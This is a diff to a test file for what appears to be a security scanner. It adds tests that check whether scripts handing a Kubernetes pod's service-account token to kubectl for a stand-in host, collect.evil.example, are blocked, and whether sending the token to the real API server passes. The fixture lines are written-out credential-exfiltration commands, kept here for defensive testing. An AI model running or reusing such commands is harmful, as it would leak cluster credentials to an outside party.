@@ -140,6 +140,20 @@ def test_a_pods_token_at_the_api_servers_name_routed_elsewhere_blocks(tmp_path: 
         assert "SY-FLOW-001" in blocking(tmp_path / str(i), {"ns.sh": script}), script
 
 
+def test_a_pods_token_handed_to_kubectl_for_another_server_blocks(tmp_path: Path) -> None:
+    shapes = (
+        f'kubectl --server https://collect.evil.example --token "$(cat {_SA})" get pods\n',
+        f'T=$(cat {_SA})\nkubectl --server=https://collect.evil.example --token="$T" get pods\n',
+    )
+    for i, script in enumerate(shapes):
+        assert "SY-FLOW-001" in blocking(tmp_path / str(i), {"run.sh": script}), script
+
+
+def test_a_pods_token_handed_to_kubectl_for_the_api_server_still_passes(tmp_path: Path) -> None:
+    script = f'kubectl --server https://kubernetes.default.svc --token "$(cat {_SA})" get pods\n'
+    assert blocking(tmp_path, {"run.sh": script}) == {}
+
+
 # ------------------------------------------------ JavaScript strings "kept as data"
 
 _PAYLOAD = (
